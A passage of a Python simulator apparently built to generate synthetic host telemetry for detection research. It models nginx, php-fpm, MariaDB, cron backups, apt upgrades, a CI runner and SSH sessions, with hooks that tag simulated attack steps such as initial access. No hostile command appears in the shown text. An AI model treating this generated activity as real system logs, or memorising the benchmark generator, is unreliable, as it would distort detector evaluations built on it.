                self._php_request(w, cfd, r.weighted(_PHP, self.php_cum)[0])
            else:
                self._static(w, cfd, r.weighted(_STATIC, self.static_cum)[0])
            self.write(w, w.x["access"], 150 + r.below(120))
            if i + 1 < n:
                yield r.expo(3.0)
                if not w.alive:
                    return
        self.close(w, cfd)

    def _static(self, w: _Proc, cfd: int, page: str) -> None:
        path = "/var/www/html/" + page
        fd = self.open(w, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC)
        if fd < 0:
            self.write(w, w.x["error"], 160 + self.r.below(80))
            self.write(w, cfd, 555, no=20)
            return
        size = self.sizes.get(path, 4000)
        self.read(w, fd, min(size, 32768))
        self.write(w, cfd, min(size, 32768) + 280, no=20)
        rest = size - 32768
        while rest > 0:
            n = min(rest, 32768)
            self.read(w, fd, n, no=17)
            self.write(w, cfd, n, no=20)
            rest -= n
        self.close(w, fd)

    def _php_begin(self, w: _Proc, script: str, reqlen: int) -> tuple[_Proc, int, int] | None:
        """nginx → php-fpm over the unix socket; returns (php worker, its fd, nginx's fd)."""
        free = [p for p in self.php_workers if not p.x.get("busy")]
        if not free:
            self.write(w, w.x["error"], 190)
            return None
        php = self.r.choice(free)
        s = self.socket(w, 1, 0x80801)
        self.connect(w, s, "/run/php/php8.2-fpm.sock", 0)
        self.write(w, s, reqlen + 600, no=20)
        pfd = self.accept(php, php.x["listen"], "/run/php/php8.2-fpm.sock", 0)
        self.read(php, pfd, reqlen + 600)
        self.read_file(php, "/var/www/html/" + script, 1500 + self.r.below(6000))
        return php, pfd, s

    def _php_end(self, w: _Proc, cfd: int, php: _Proc, pfd: int, s: int, size: int) -> None:
        self.write(php, pfd, size + 40)
        self.close(php, pfd)
        self.read(w, s, size + 40)
        self.close(w, s)
        self.write(w, cfd, size + 260, no=20)

    def _php_request(self, w: _Proc, cfd: int, script: str) -> None:
        r = self.r
        got = self._php_begin(w, script, 300 + r.below(600))
        if got is None:
            self.write(w, cfd, 560, no=20)
            return
        php, pfd, s = got
        self._php_body(php, script)
        self._php_end(w, cfd, php, pfd, s, 2000 + r.below(20000))

    def _php_body(self, php: _Proc, script: str) -> None:
        r = self.r
        self.read_file(php, "/var/www/html/lib/util.php", 4100)
        if r.chance(self.cfg.db_fraction):
            self.read_file(php, "/var/www/config.php", 812)
            self.read_file(php, "/var/www/html/lib/db.php", 2900)
            self._mysql(php, 1 + r.below(3))
        if script in ("login.php", "cart.php"):
            self.read_file(php, "/var/www/html/lib/auth.php", 3300)
            sess = "/var/lib/php/sessions/sess_" + r.token(26, "abcdefghijklmnopqrstuv0123456789")
            self.write_file(php, sess, 120 + r.below(400), O_RDWR | O_CREAT, 0o600)

    def _mysql(self, p: _Proc, queries: int) -> None:
        """A client connection to MariaDB over /run/mysqld/mysqld.sock."""
        r, db = self.r, self.mysqld
        s = self.socket(p, 1, 0x80001)
        self.connect(p, s, "/run/mysqld/mysqld.sock", 0)
        dfd = self.accept(db, db.x["listen"], "/run/mysqld/mysqld.sock", 0)
        self.send(db, dfd, 110)
        self.recv(p, s, 110)
        self.send(p, s, 180)
        self.recv(db, dfd, 180)
        self.send(db, dfd, 11)
        self.recv(p, s, 11)
        for _ in range(queries):
            q = 60 + r.below(300)
            self.send(p, s, q)
            self.recv(db, dfd, q)
            if r.chance(0.2):
                self.read(db, db.x["shop"], 16384, no=17)
            if r.chance(0.05):
                self.write(db, db.x["log"], 512 * (1 + r.below(8)), no=18)
            n = 80 + r.below(4000)
            self.send(db, dfd, n)
            self.recv(p, s, n)
        self.send(p, s, 5)
        self.close(p, s)
        self.recv(db, dfd, 5)
        self.close(db, dfd)

    # ===== cron =========================================================================
    def _cron_job(self, user: str, cmd: str) -> tuple[_Proc, _Proc]:
        """cron forks a session child with PAM records; it forks ``sh -c cmd`` as ``user``."""
        cron = self.cron
        c = self.fork(cron, None)
        c.x["user"] = user
        self._pam("USER_ACCT", c, "PAM:accounting", user, "/usr/sbin/cron", "?", "?", "cron")
        self._pam("CRED_ACQ", c, "PAM:setcred", user, "/usr/sbin/cron", "?", "?", "cron")
        self._session_open(c, user, USERS[user][0], "/usr/sbin/cron", "?", "cron")
        sh = self.spawn(c, "/bin/sh", ["/bin/sh", "-c", cmd], user=user, cwd=USERS[user][2])
        return c, sh

    def _cron_end(self, c: _Proc) -> None:
        user = c.x["user"]
        self._pam("CRED_DISP", c, "PAM:setcred", user, "/usr/sbin/cron", "?", "?", "cron")
        self._pam("USER_END", c, "PAM:session_close", user, "/usr/sbin/cron", "?", "?", "cron")
        self.exit(c)

    def _cron_php(self):
        c, sh = self._cron_job("www-data", "php /var/www/html/cron.php >/dev/null 2>&1")
        fd = self.open(sh, "/dev/null", O_WRONLY | O_CREAT | O_TRUNC)
        self.dup2(sh, fd, 1)
        self.close(sh, fd)
        self.dup2(sh, 1, 2)
        self.execve(sh, "/usr/bin/php", ["php", "/var/www/html/cron.php"])
        self.read_file(sh, "/etc/php/8.2/cli/php.ini", 72000)
        self.read_file(sh, "/var/www/html/cron.php", 1900)
        self.read_file(sh, "/var/www/config.php", 812)
        self._mysql(sh, 2)
        yield 0.05 + self.r.u() * 0.3
        self.exit(sh)
        self._cron_end(c)

    def _cron_logrotate(self):
        r = self.r
        c, sh = self._cron_job(
            "root", "test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf"
        )
        lr = self.spawn(sh, "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"])
        self.read_file(lr, "/etc/logrotate.conf", 590)
        self.read_file(lr, "/etc/logrotate.d/nginx", 330)
        self.read_file(lr, "/etc/logrotate.d/php8.2-fpm", 160)
        self.read_file(lr, "/var/lib/logrotate/status", 1800)
        for name in ("access.log", "error.log"):
            base = "/var/log/nginx/" + name
            if self.exists(f"{base}.3.gz"):
                self.unlink(lr, f"{base}.3.gz", no=87)
            if self.exists(f"{base}.2.gz"):
                self.rename(lr, f"{base}.2.gz", f"{base}.3.gz")
            if self.exists(f"{base}.1"):  # delaycompress: .1 → .2.gz through gzip
                src = self.open(lr, f"{base}.1", O_RDONLY | O_CLOEXEC)
                dst = self.open(lr, f"{base}.2.gz", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0o640)
                gz = self.spawn(
                    lr, "/bin/gzip", ["/bin/gzip"], stdin=src, stdout=dst, close=(src, dst)
                )
                size = 20000 + r.below(200000)
                while size > 0:
                    self.read(gz, 0, 65536)
                    self.write(gz, 1, 12000)
                    size -= 65536
                self.read(gz, 0, 0)
                self.exit(gz)
                self.close(lr, src)
                self.close(lr, dst)
                self.unlink(lr, f"{base}.1", no=87)
            self.rename(lr, base, f"{base}.1")
            fd = self.open(lr, base, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0o640)
            self.fchmod(lr, fd, 0o640)
            self.close(lr, fd)
        post = self.spawn(
            lr,
            "/bin/sh",
            [
                "sh",
                "-c",
                "\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n\t",
                "logrotate_script",
                "/var/log/nginx/*.log",
            ],
        )
        cat, rfd = self.capture(post, "/usr/bin/cat", ["cat", "/run/nginx.pid"])
        self.read_file(cat, "/run/nginx.pid", 5)
        self.write(cat, 1, 5)
        self.exit(cat)
        self.read(post, rfd, 5)
        self.close(post, rfd)
        self.exit(post)
        yield 0.01 + r.u() * 0.05
        self._nginx_reopen()
        self.write_file(lr, "/var/lib/logrotate/status.tmp", 1800, mode=0o644)
        self.rename(lr, "/var/lib/logrotate/status.tmp", "/var/lib/logrotate/status", replace=True)
        self.exit(lr)
        self.exit(sh)
        self._cron_end(c)

    def _nginx_reopen(self) -> None:
        """SIGUSR1: master and workers open the new log files and close the old fds."""
        for p in [self.nginx_master, *self.nginx_workers]:
            for key, path in (
                ("access", "/var/log/nginx/access.log"),
                ("error", "/var/log/nginx/error.log"),
            ):
                fd = self.open(p, path, O_WRONLY | O_APPEND | O_CREAT, 0o644)
                self.close(p, p.x[key])
                p.x[key] = fd

    def _cron_backup(self):
        r = self.r
        c, sh = self._cron_job("root", "/usr/local/bin/backup.sh >>/var/log/backup.log 2>&1")
        log = self.open(sh, "/var/log/backup.log", O_WRONLY | O_CREAT | O_APPEND)
        self.dup2(sh, log, 1)
        self.close(sh, log)
        self.dup2(sh, 1, 2)
        self.execve(
            sh,
            "/usr/local/bin/backup.sh",
            ["/bin/bash", "/usr/local/bin/backup.sh"],
            script="/bin/bash",
        )
        bash = sh
        self.read_file(bash, "/usr/local/bin/backup.sh", 640)
        date, rfd = self.capture(bash, "/usr/bin/date", ["date", "+%F"])
        self.write(date, 1, 11)
        self.exit(date)
        self.read(bash, rfd, 11)
        self.close(bash, rfd)
        day = time.strftime("%Y-%m-%d", time.gmtime(self.now))
        archive = f"/var/backups/www-{day}-{r.token(4, '0123456789')}.tgz"
        members = (
            ["www/config.php"]
            + ["www/html/" + p for p, _, s in _STATIC if s]
            + ["www/html/" + p for p, _ in _PHP]
            + [p[5:] for p in _WWW_EXTRA[1:]]
        )
        self._tar(bash, archive, members, chdir="/var", args=["www"])
        yield 0.2 + r.u()
        self.write(bash, 1, 60)
        scp = self.spawn(
            bash,
            "/usr/bin/scp",
            [
                "scp",
                "-q",
                "-i",
                "/root/.ssh/backup_key",
                archive,
                f"backup@{_BACKUP_HOST}:/srv/backups/web01/",
            ],
        )
        to_ssh, from_scp = self.pipe(scp)
        from_ssh, to_scp = self.pipe(scp)
        ssh = self.spawn(
            scp,
            "/usr/bin/ssh",
            [
                "/usr/bin/ssh",
                "-x",
                "-oPermitLocalCommand=no",
                "-oClearAllForwarding=yes",
                "-oRemoteCommand=none",
                "-oRequestTTY=no",
                "-oForwardAgent=no",
                "-i",
                "/root/.ssh/backup_key",
                "-l",
                "backup",
                "--",
                _BACKUP_HOST,
                "scp",
                "-t",
                "/srv/backups/web01/",
            ],
            stdin=to_ssh,
            stdout=to_scp,
            close=(to_ssh, from_scp, from_ssh, to_scp),
        )
        self.close(scp, to_ssh)
        self.close(scp, to_scp)
        self.read_file(ssh, "/etc/ssh/ssh_config", 1650)
        self.read_file(ssh, "/root/.ssh/backup_key", 411)
        self.read_file(ssh, "/root/.ssh/known_hosts", 1420)
        s = self.socket(ssh, 2, 0x80001)
        self.connect(ssh, s, _BACKUP_HOST, 22)
        for _ in range(4):
            self.send(ssh, s, 200 + r.below(1200))
            self.recv(ssh, s, 200 + r.below(1200))
        yield 0.05
        fd = self.open(scp, archive)
        size = 300000 + r.below(400000)
        while size > 0:
            self.read(scp, fd, 16384)
            self.write(scp, from_scp, 16384)
            self.read(ssh, 0, 16384)
            self.send(ssh, s, 16448)
            size -= 16384
        self.close(scp, fd)
        self.recv(ssh, s, 64)
        self.write(ssh, 1, 1)
        self.read(scp, from_ssh, 1)
        self.close(ssh, s)
        self.exit(ssh)
        self.exit(scp)
        find = self.spawn(
            bash,
            "/usr/bin/find",
            ["find", "/var/backups", "-name", "www-*.tgz", "-mtime", "+7", "-delete"],
        )
        week_old = time.strftime("%Y-%m-%d", time.gmtime(self.start - 8 * 86400))
        old = f"/var/backups/www-{week_old}-0315.tgz"
        if self.exists(old):
            self.unlink(find, old)
        self.exit(find)
        self.write(bash, 1, 40)
        uuid = "-".join(r.token(n, "0123456789abcdef") for n in (8, 4, 4, 4, 12))
        url = f"https://hc-ping.com/{uuid}"
        self._download(
            None,
            bash,
            "curl",
            _HEALTHCHECK,
            "",
            "/dev/null",
            2,
            argv=["curl", "-fsS", "-m", "10", "--retry", "5", "-o", "/dev/null", url],
            hops=((_HEALTHCHECK, 443),),
        )
        self.exit(bash)
        self._cron_end(c)

    def _tar(
        self,
        parent: _Proc,
        archive: str,
        members: list[str],
        chdir: str = "",
        args: list[str] | None = None,
    ) -> _Proc:
        """``tar -czf archive [-C dir] args``: tar → pipe → gzip → archive.

        ``members``: the files tar reads (relative to ``chdir``); ``args``: the
        command-line operands (default: the members).
        """
        r = self.r
        argv = ["tar", "-czf", archive] + (["-C", chdir] if chdir else []) + (args or members)
        tar = self.spawn(parent, "/usr/bin/tar", argv)
        afd = self.open(tar, archive, O_WRONLY | O_CREAT | O_TRUNC, 0o666)
        rd, wr = self.pipe(tar)
        gz = self.spawn(tar, "/bin/gzip", ["gzip"], stdin=rd, stdout=afd, close=(rd, wr, afd))
        self.close(tar, rd)
        self.close(tar, afd)
        if chdir:
            tar.cwd = chdir
        for m in members:
            fd = self.open(tar, m, O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC)
            if fd < 0:
                continue
            n = 500 + r.below(20000)
            self.read(tar, fd, n)
            self.close(tar, fd)
            self.write(tar, wr, 10240)
            if r.chance(0.5):
                self.read(gz, 0, 32768)
                self.write(gz, 1, 4096 + r.below(8000))
        self.close(tar, wr)
        self.read(gz, 0, 10240)
        self.write(gz, 1, 900)
        self.read(gz, 0, 0)
        self.exit(gz)
        self.exit(tar)
        return tar

    # ===== apt ==========================================================================
    def _apt_upgrade(self):
        """apt-daily-upgrade: update lists, download .debs, dpkg unpack/configure."""
        r, sd = self.r, self.systemd
        self._user(
            "SERVICE_START",
            sd,
            "",
            raw=(
                f"pid=1 uid=0 auid={_UNSET} ses={_UNSET} subj=unconfined msg='unit=apt-daily-upgrade "
                'comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? '
                "res=success'"
            ),
        )
        sh = self.spawn(
            sd,
            "/usr/lib/apt/apt.systemd.daily",
            ["/bin/sh", "/usr/lib/apt/apt.systemd.daily", "install"],
            tag=None,
            script="/bin/sh",
        )
        apt = self.spawn(sh, "/usr/bin/apt-get", ["apt-get", "-qq", "-y", "upgrade"])
        self.read_file(apt, "/etc/apt/sources.list", 230)
        self.read_file(apt, "/etc/apt/apt.conf.d/20auto-upgrades", 80)
        self.read_file(apt, "/var/lib/dpkg/status", 900000)
        # the http method, talking to apt-get over two pipes
        to_m, m_in = self.pipe(apt)
        m_out, from_m = self.pipe(apt)
        http = self.spawn(
            apt,
            "/usr/lib/apt/methods/http",
            ["/usr/lib/apt/methods/http"],
            stdin=to_m,
            stdout=from_m,
            close=(to_m, m_in, m_out, from_m),
        )
        self.close(apt, to_m)
        self.close(apt, from_m)
        self.setuid(http, "_apt")
        mirror = r.choice(_MIRRORS)
        s = self.socket(http, 2, 0x80801)
        self.connect(http, s, mirror, 80)
        self.write(apt, m_in, 300)
        self.read(http, 0, 300)
        lists = "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm-updates_InRelease"
        self.send(http, s, 260)
        part = "/var/lib/apt/lists/partial/" + lists.rsplit("/", 1)[1]
        fd = self.open(http, part, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0o644)
        for _ in range(3):
            self.recv(http, s, 16384)
            self.write(http, fd, 16384)
        self.close(http, fd)
        self.write(http, 1, 200)
        self.read(apt, m_out, 200)
        self.rename(apt, part, lists, replace=True)
        yield 1.0 + r.u() * 3
        pkgs = [_PACKAGES[i] for i in sorted({r.below(len(_PACKAGES)) for _ in range(3)})]
        debs = []
        for name, ver, _ in pkgs:
            deb = f"{name}_{ver.replace(':', '%3a')}_amd64.deb"
            self.write(apt, m_in, 300)
            self.read(http, 0, 300)
            self.send(http, s, 280)
            pfd = self.open(
                http,
                "/var/cache/apt/archives/partial/" + deb,
                O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC,
                0o644,
            )
            for _ in range(2 + r.below(10)):
                self.recv(http, s, 65536)
                self.write(http, pfd, 65536)
            self.close(http, pfd)
            self.write(http, 1, 220)
            self.read(apt, m_out, 220)
            self.rename(
                apt, "/var/cache/apt/archives/partial/" + deb, "/var/cache/apt/archives/" + deb
            )
            debs.append("/var/cache/apt/archives/" + deb)
            yield 0.2 + r.u()
        self.close(http, s)
        self.exit(http)
        self.close(apt, m_in)
        self.close(apt, m_out)
        log = self.open(apt, "/var/log/apt/history.log", O_WRONLY | O_CREAT | O_APPEND, 0o644)
        self.write(apt, log, 400)
        # dpkg --unpack, then --configure
        dpkg = self.spawn(
            apt,
            "/usr/bin/dpkg",
            [
                "/usr/bin/dpkg",
                "--status-fd",
                "23",
                "--no-triggers",
                "--unpack",
                "--auto-deconfigure",
                *debs,
            ],
        )
        self.read_file(dpkg, "/var/lib/dpkg/status", 900000)
        dlog = self.open(dpkg, "/var/log/dpkg.log", O_WRONLY | O_CREAT | O_APPEND, 0o644)
        for (name, _ver, files), deb in zip(pkgs, debs):
            self.read_file(dpkg, deb, 60000)
            for f in files:
                tmp = f + ".dpkg-new"
                fd = self.open(dpkg, tmp, O_WRONLY | O_CREAT | O_EXCL, 0o600)
                self.write(dpkg, fd, 40000 + r.below(600000))
                self.fchmod(dpkg, fd, 0o644 if "/share/" in f else 0o755)
                self.close(dpkg, fd)
                self.rename(dpkg, tmp, f, replace=True)
            for kind in ("postinst", "prerm", "md5sums"):
                info = f"/var/lib/dpkg/info/{name}:amd64.{kind}"
                fd = self.open(dpkg, info + ".dpkg-new", O_WRONLY | O_CREAT | O_TRUNC, 0o600)
                self.write(dpkg, fd, 300 + r.below(2000))
                if kind != "md5sums":
                    self.fchmod(dpkg, fd, 0o755)
                self.close(dpkg, fd)
                self.rename(dpkg, info + ".dpkg-new", info, replace=True)
            self.write(dpkg, dlog, 120)
            yield 0.1 + r.u() * 0.5
        self.write_file(dpkg, "/var/lib/dpkg/status-new", 900000, mode=0o644)
        self.rename(dpkg, "/var/lib/dpkg/status-new", "/var/lib/dpkg/status", replace=True)
        self.close(dpkg, dlog)
        self.exit(dpkg)
        dpkg = self.spawn(
            apt, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "23", "--configure", "--pending"]
        )
        for name, ver, files in pkgs:
            info = f"/var/lib/dpkg/info/{name}:amd64.postinst"
            post = self.spawn(dpkg, info, [info, "configure", ver], script="/bin/sh")
            if any(".so" in f for f in files):
                ldc = self.spawn(post, "/sbin/ldconfig", ["/sbin/ldconfig"], static=True)
                for f in files:
                    self.read_file(ldc, f, 4096)
                self.write_file(ldc, "/etc/ld.so.cache~", 60000, mode=0o644)
                self.rename(ldc, "/etc/ld.so.cache~", "/etc/ld.so.cache", replace=True)
                self.exit(ldc)
            elif files[0].startswith("/usr/bin/"):
                ver_p, rfd = self.capture(post, files[0], [files[0], "--version"])
                self.write(ver_p, 1, 40)
                self.exit(ver_p)
                self.read(post, rfd, 40)
                self.close(post, rfd)
            self.exit(post)
        self.exit(dpkg)
        self.write(apt, log, 200)
        self.close(apt, log)
        self.exit(apt)
        self.exit(sh)

    # ===== CI runner ====================================================================
    def _ci_loop(self):
        r, cfg = self.r, self.cfg
        job_p = cfg.ci_builds_per_hour * cfg.ci_poll_s / 3600
        while True:
            p = self.runner
            s = self.socket(p, 2, 0x80801)
            self.connect(p, s, _GITLAB, 443)
            self.send(p, s, 517)
            self.recv(p, s, 1400)
            job = r.chance(job_p)
            self.send(p, s, 620 + r.below(200))
            self.recv(p, s, 5200 if job else 290)
            self.close(p, s)
            if job:
                self.schedule(self._ci_job())
            yield cfg.ci_poll_s * (0.9 + 0.2 * r.u())

    def _ci_job(self):
        r, runner = self.r, self.runner
        bash, wr = self.feed(
            runner,
            "/bin/bash",
            ["bash", "--login"],
            user="gitlab-runner",
            cwd="/home/gitlab-runner/builds/shop/backend",
        )
        self.read_file(bash, "/home/gitlab-runner/.profile", 807)
        self.write(runner, wr, 3000)
        self.read(bash, 0, 3000)
        yield from self._git(bash, "fetch")
        yield 0.5 + r.u()
        if r.chance(0.5):  # benign download → chmod +x → execute: a linter release
            tool = f"/tmp/golangci-lint-{r.token(6)}"
            url = (
                "https://github.com/golangci/golangci-lint/releases/download/v1.55.2/"
                "golangci-lint-1.55.2-linux-amd64"
            )
            self._download(
                None,
                bash,
                "curl",
                _GITHUB,
                url,
                tool,
                300_000 + r.below(200_000),
                argv=["curl", "-sSfL", url, "-o", tool],
                hops=((_GITHUB, 443), (_GITHUB_CDN, 443)),
            )
            ch = self.spawn(bash, "/usr/bin/chmod", ["chmod", "+x", tool])
            self.chmod(ch, tool, 0o755)
            self.exit(ch)
            lint = self.spawn(bash, tool, [tool, "run", "./..."], static=True)
            for src in _PROJECT_SRC:
                self.read_file(lint, "src/" + src, 2000 + r.below(20000))
            self.write(lint, 1, 300)
            self.exit(lint)
            yield 0.5 + r.u()
        yield from self._build(bash)
        self.close(runner, wr)
        self.read(bash, 0, 0)
        self.exit(bash)

    # ===== ssh sessions =================================================================
    def _ssh_arrivals(self):
        rate, r = self.cfg.ssh_per_hour, self.r
        while True:
            user = "alice" if r.chance(0.6) else "bob"
            ip = f"10.8.0.{r.between(2, 40)}"
            self.schedule(self._ssh_session(user, ip, self._benign_commands))
            yield r.expo(3600 / rate)

    def _ssh_session(
        self, user: str, ip: str, commands, attack: _Attack | None = None, password: bool = False
    ):
        """sshd accept → [priv] child (re-exec, PAM) → user child → bash on a pty."""
        r, sshd = self.r, self.sshd
        uid, gid, home = USERS[user]
        port = self.eport()
        cfd = self.accept(sshd, sshd.x["listen"], ip, port)
        if attack is not None:
            attack.sockets.add(f"{ip}:{port}")
            self.step(attack, "initial_access")
        priv = self.fork(sshd, attack if attack is not None else None)
        self.close(sshd, cfd)
        # the child moves the connection to fds 0/1 and re-executes itself (sshd -R)
        self.dup2(priv, cfd, 0)
        self.dup2(priv, 0, 1)
        self.close(priv, cfd)
        self.execve(priv, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D", "-R"])
        priv.argv = ["sshd: " + user + " [priv]"]
        priv.retail()
        self.read_file(priv, "/etc/ssh/sshd_config", 3250)
        self.read_file(priv, "/etc/ssh/ssh_host_ed25519_key", 411)
        for _ in range(3):
            self.recv(priv, 0, 100 + r.below(1500))
            self.send(priv, 1, 100 + r.below(1500))
        self.read_file(priv, "/etc/passwd", 1843)
        if password:
            self.read_file(priv, "/etc/shadow", 1106)
            self._pam(
                "USER_AUTH", priv, "PAM:authentication", user, "/usr/sbin/sshd", ip, ip, "ssh"
            )
        else:
            self.read_file(priv, home + "/.ssh/authorized_keys", 750)
        self._pam("USER_ACCT", priv, "PAM:accounting", user, "/usr/sbin/sshd", ip, ip, "ssh")
        self._pam("CRED_ACQ", priv, "PAM:setcred", user, "/usr/sbin/sshd", ip, ip, "ssh")
        self._session_open(priv, user, uid, "/usr/sbin/sshd", ip, "ssh")
        yield 0.05 + r.u() * 0.2
        pts = 0
        while pts in self.ptys:
            pts += 1
        self.ptys.add(pts)
        ptm = self.open(priv, "/dev/ptmx", O_RDWR | O_NOCTTY)
        net = self.fork(priv)
        self.setuid(net, user)
        net.argv = [f"sshd: {user}@pts/{pts}"]
        net.retail()
        self._user(
            "USER_LOGIN",
            priv,
            "",
            raw=(
                f"pid={priv.pid} uid=0 auid={uid} ses={priv.ses} subj=unconfined msg='op=login id={uid} "
                f'exe="/usr/sbin/sshd" hostname=? addr={ip} terminal=/dev/pts/{pts} res=success\''
            ),
        )
        sh = self.fork(net)
        tfd = self.open(sh, f"/dev/pts/{pts}", O_RDWR)
        for i in range(3):
            self.dup2(sh, tfd, i)
        self.close(sh, tfd)
        self.close(sh, ptm)
        sh.tty = f"pts{pts}"
        sh.cwd = home
        self.execve(sh, "/bin/bash", ["-bash"])
        for f in (
            "/etc/bash.bashrc",
            home + "/.profile",
            home + "/.bashrc",
            home + "/.bash_history",
        ):
            self.read_file(sh, f, 200 + r.below(4000))
        net.x["ptm"] = ptm
        sh.x["net"] = net
        yield from commands(user, sh)
        # logout
        if sh.alive:
            fd = self.open(sh, home + "/.bash_history", O_WRONLY | O_APPEND | O_CREAT, 0o600)
            self.write(sh, fd, 20 + r.below(300))
            self.close(sh, fd)
            self.exit(sh)
        self.read(net, ptm, 0)
        self.close(net, ptm)
        self.send(net, 1, 80)
        self.close(net, 0)
        self.close(net, 1)
        self.exit(net)
        self.ptys.discard(pts)
        self._pam("USER_END", priv, "PAM:session_close", user, "/usr/sbin/sshd", ip, ip, "ssh")
        self._pam("CRED_DISP", priv, "PAM:setcred", user, "/usr/sbin/sshd", ip, ip, "ssh")
        self.exit(priv)

    def _relay(self, sh: _Proc, n_in: int, n_out: int) -> None:
        """sshd relays the keystrokes in and the output out through the pty."""
        net = sh.x["net"]
        self.recv(net, 0, n_in + 36)
        self.write(net, net.x["ptm"], n_in)
        self.read(sh, 0, n_in)
        self.read(net, net.x["ptm"], n_out)
        self.send(net, 1, n_out + 36)

    def _benign_commands(self, user: str, sh: _Proc):
        r = self.r
        n = 1 + int(r.expo(self.cfg.ssh_commands_mean - 1))
        cmds = (
            ("ls", 20),
            ("cat", 10),
            ("vim", 8),
            ("git", 6),
            ("sudo", 2),
            ("passwd", 3),
            ("id", 4),
            ("crontab", 1),
            ("make", 4),
            ("tail", 5),
            ("ps", 4),
            ("uptime", 4),
            ("df", 3),
        )
        cum = list(itertools.accumulate(w for _, w in cmds))
        home = USERS[user][2]
        for _ in range(n):
            yield 2.0 + r.expo(25.0)
            kind = r.weighted(cmds, cum)[0]
            self._relay(sh, 8 + r.below(30), 40)
            if kind == "ls":
                c = self.spawn(sh, "/usr/bin/ls", ["ls", "--color=auto", "-la"][: 1 + r.below(3)])
                fd = self.open(c, ".", O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_DIRECTORY)
                self.close(c, fd)
                self.write(c, 1, 200 + r.below(2000))
                self.exit(c)
            elif kind in ("cat", "passwd", "tail"):
                if kind == "tail":
                    path = "/var/log/nginx/access.log"
                    c = self.spawn(sh, "/usr/bin/tail", ["tail", "-n", "50", path])
                else:
                    path = (
                        "/etc/passwd"
                        if kind == "passwd"
                        else r.choice(
                            (
                                "notes.txt",
                                "todo.md",
                                "project/README.md",
                                "meeting notes.txt",
                                "/etc/hostname",
                                "/etc/os-release",
                            )
                        )
                    )
                    c = self.spawn(sh, "/usr/bin/cat", ["cat", path])
                self.read_file(c, path, 200 + r.below(6000))
                self.write(c, 1, 200 + r.below(4000))
                self.exit(c)
            elif kind == "vim":
                path = r.choice(
                    (
                        "notes.txt",
                        "todo.md",
                        "project/src/util.c",
                        "meeting notes.txt",
                        "scripts/deploy.sh",
                        "café/recette.txt",
                    )
                )
                yield from self._vim(sh, path)
            elif kind == "git":
                sh.cwd = home + "/project"
                yield from self._git(sh, "pull")
                sh.cwd = home
            elif kind == "sudo":
                yield from self._sudo_restart_nginx(user, sh)
            elif kind == "id":
                c = self.spawn(sh, "/usr/bin/id", ["id"])
                self.read_file(c, "/etc/nsswitch.conf", 510)
                self.read_file(c, "/etc/passwd", 1843)
                self.read_file(c, "/etc/group", 890)
                self.write(c, 1, 120)
                self.exit(c)
            elif kind == "crontab":
                yield from self._crontab_e(user, sh)
            elif kind == "make":
                sh.cwd = home + "/project"
                yield from self._build(sh)
                sh.cwd = home
            elif kind == "ps":
                c = self.spawn(sh, "/usr/bin/ps", ["ps", "aux"])
                alive = [p for p in self.procs.values() if p.alive][:30]
                for p in alive:
                    self.read_file(c, f"/proc/{p.pid}/stat", 300)
                self.write(c, 1, 80 * len(alive))
                self.exit(c)
            elif kind == "uptime":
                c = self.spawn(sh, "/usr/bin/uptime", ["uptime"])
                self.read_file(c, "/proc/uptime", 16)
                self.read_file(c, "/proc/loadavg", 26)
                self.write(c, 1, 70)
                self.exit(c)
            else:  # df
                c = self.spawn(sh, "/usr/bin/df", ["df", "-h"])
                self.read_file(c, "/proc/self/mountinfo", 2800)
                self.write(c, 1, 480)
                self.exit(c)

    def _vim(self, sh: _Proc, path: str):
        r = self.r
        c = self.spawn(sh, "/usr/bin/vim", ["vim", path])
        self.read_file(c, "/usr/share/vim/vim90/defaults.vim", 5400)
        d, b = posixpath.split(path)
        swp = (d + "/" if d else "") + "." + b + ".swp"
        if self.exists(self._abs(c, path)):
            self.read_file(c, path, 300 + r.below(5000))
        sfd = self.open(c, swp, O_RDWR | O_CREAT | O_EXCL, 0o600)
        self.write(c, sfd, 4096)
        yield 5.0 + r.expo(40.0)
        self._relay(sh, 200, 400)
        self.write(c, sfd, 4096, no=18)
        fd = self.open(c, path, O_WRONLY | O_CREAT | O_TRUNC, 0o644)
        self.write(c, fd, 300 + r.below(5000))
        self.close(c, fd)
        self.close(c, sfd)
        self.unlink(c, swp, no=87)
        self.exit(c)

    def _git(self, sh: _Proc, verb: str):
        """git pull/fetch: git-remote-https to the GitLab host, index-pack threads, checkout."""
        r = self.r
        g = self.spawn(sh, "/usr/bin/git", ["git", verb])
        self.read_file(g, ".git/config", 320)
        self.read_file(g, _UID_HOME.get(g.uid, "/root") + "/.gitconfig", 90)
        rd, wr = self.pipe(g)
        rd2, wr2 = self.pipe(g)
        h = self.spawn(
            g,
            "/usr/lib/git-core/git-remote-https",
            ["git-remote-https", "origin", f"https://{_GITLAB}/shop/backend.git"],
            stdin=rd,
            stdout=wr2,
            close=(rd, wr, rd2, wr2),
        )
        self.close(g, rd)
        self.close(g, wr2)
        self.write(g, wr, 120)
        self.read(h, 0, 120)
        s = self.socket(h, 2, 0x80801)
        self.connect(h, s, _GITLAB, 443)
        for _ in range(3):
            self.send(h, s, 300 + r.below(700))
            self.recv(h, s, 1000 + r.below(5000))
        yield 0.2 + r.u()
        changed = r.chance(0.6)
        if changed:
            self.thread(g)
            self.thread(g)
            tmp = f".git/objects/pack/tmp_pack_{r.token(6)}"
            fd = self.open(g, tmp, O_RDWR | O_CREAT | O_EXCL, 0o444)
            for _ in range(2 + r.below(6)):
                self.recv(h, s, 16384)
                self.write(h, 1, 16384)
                self.read(g, rd2, 16384)
                self.write(g, fd, 16384)
            self.close(g, fd)
            self.thread_exit(g)
            self.thread_exit(g)
            sha = r.token(40, "0123456789abcdef")
            self.rename(g, tmp, f".git/objects/pack/pack-{sha}.pack")
        self.close(h, s)
        self.exit(h)
        self.close(g, wr)
        self.close(g, rd2)
        if changed:
